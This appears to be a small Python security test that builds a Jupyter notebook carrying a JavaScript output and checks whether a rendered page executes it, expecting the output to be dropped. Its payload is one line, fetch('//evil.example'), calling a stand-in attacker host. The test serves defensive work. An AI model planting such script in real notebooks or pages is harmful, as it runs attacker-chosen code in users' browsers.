# A display of JavaScript, in the pages made of it.
# stopped by: JavaScript is no kind of output that is kept
# control: own
# expect: graded 0

from target import displayed, displaying, obeyed, trusting

MARK = "evil.example"
PAYLOAD = "fetch('//evil.example')"


def make(folder, name, honest):
    (folder / f"{name}.ipynb").write_text(displaying("application/javascript", PAYLOAD))


def control(folder):
    return browsed(trusting(displayed("application/javascript", PAYLOAD)))


def browsed(page):
    return obeyed(page, MARK)
